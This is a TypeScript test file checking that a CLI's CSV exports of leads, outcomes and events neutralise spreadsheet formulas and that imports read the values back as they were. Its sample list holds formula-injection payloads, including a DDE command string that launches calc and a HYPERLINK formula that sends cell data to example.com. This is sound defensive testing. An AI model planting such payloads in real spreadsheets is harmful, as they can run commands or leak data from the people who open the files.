import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, expect, test, vi } from 'vitest'
import { z } from 'zod'
import { listen } from '#infra/http/listen.ts'
import { exportAll, type Exportable } from '../../cli/lead-files/export.ts'
import { importFile } from '../../cli/lead-files/import.ts'

let folder: string
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'coverstream-cells-'))
})
afterAll(async () => rm(folder, { recursive: true }))

/** Texts that a spreadsheet would calculate, and some that only look like one of those or like what protects from them. */
const texts = [
  '=HYPERLINK("https://example.com?"&A1,"open")',
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1+2',
  '＠A1',
  '=1,2;"3"\n4',
  "'=1+1",
  "''@A1",
  "'Oak",
  '+447700900123',
  '-12.50',
  ' spaces ',
  'Ann\rBen',
  'plain',
]

const Sent = z.object({ rows: z.array(z.object({ fields: z.record(z.string(), z.string()) })) })

/** A service that shows these items, and takes rows of files. */
const serving = async (items: readonly object[]) => {
  const taken: Readonly<Record<string, string>>[] = []
  const { port, close } = await listen(
    (request, response) => {
      const parts: Buffer[] = []
      request.on('data', (part: Buffer) => parts.push(part))
      request.on('end', () => {
        if (request.method === 'GET') return response.end(JSON.stringify({ data: items, next_cursor: null }))
        const { rows } = Sent.parse(JSON.parse(Buffer.concat(parts).toString()))
        taken.push(...rows.map(({ fields }) => fields))
        return response.end(JSON.stringify({ data: { taken: rows.length, known: 0, faults: [] } }))
      })
    },
    '127.0.0.1',
    0,
  )
  return { service: { address: `http://127.0.0.1:${port}`, operatorKey: 'key' }, taken, close }
}

/** What a command writes to standard output. */
const outputOf = async (command: () => Promise<void>): Promise<string> => {
  const written: string[] = []
  const spy = vi.spyOn(process.stdout, 'write').mockImplementation((chunk) => {
    written.push(String(chunk))
    return true
  })
  await command()
  spy.mockRestore()
  return written.join('')
}

test.each<readonly [Exportable, readonly string[]]>([
  [
    'leads',
    'contact_id external_system_id title first_name last_name email phone_number dob postal_code status stage owner_id score grade source campaign facts updated_at'.split(
      ' ',
    ),
  ],
  [
    'outcomes',
    'id event_id type contact_id occurred_at source deal_ref product values missing_values currency reversed reversal_of'.split(
      ' ',
    ),
  ],
  [
    'events',
    'event_id event_type occurred_at recorded_at contact_id external_system_id campaign_key actor payload'.split(' '),
  ],
])('no column of an export of %s is a formula, and an import reads each as it was', async (what, columns) => {
  const items = texts.map((text) =>
    Object.fromEntries(
      columns.map((column) => [column, column === 'stage' || column === 'campaign' ? { key: text } : text]),
    ),
  )
  const { service, taken, close } = await serving(items)

  const csv = await outputOf(async () => exportAll(service, what, { format: 'csv', bom: false }))
  const [heading = [], ...rows] = parse(csv)
  expect(heading).toEqual(columns)
  for (const cell of rows.flat()) expect(cell).toMatch(/^(?![=+\-@\t\r\n＝＋－＠])|^[+-]\d+(\.\d+)?$/)

  const file = join(folder, `${what}.csv`)
  await writeFile(file, csv)
  await outputOf(async () => importFile(service, file, 'leads', { campaign: undefined, dry_run: false }))
  expect(taken).toEqual(texts.map((text) => Object.fromEntries(columns.map((column) => [column, text]))))
  await close()
})

test('a CSV file begins with a byte order mark where it is asked for; JSON lines have none', async () => {
  const { service, close } = await serving([])
  const written = async (bom: boolean) => outputOf(async () => exportAll(service, 'leads', { format: 'csv', bom }))

  expect(await written(true)).toBe(`\uFEFF${await written(false)}`)
  await expect(exportAll(service, 'leads', { format: 'jsonl', bom: true })).rejects.toThrow('Leave out --bom.')
  await close()
})
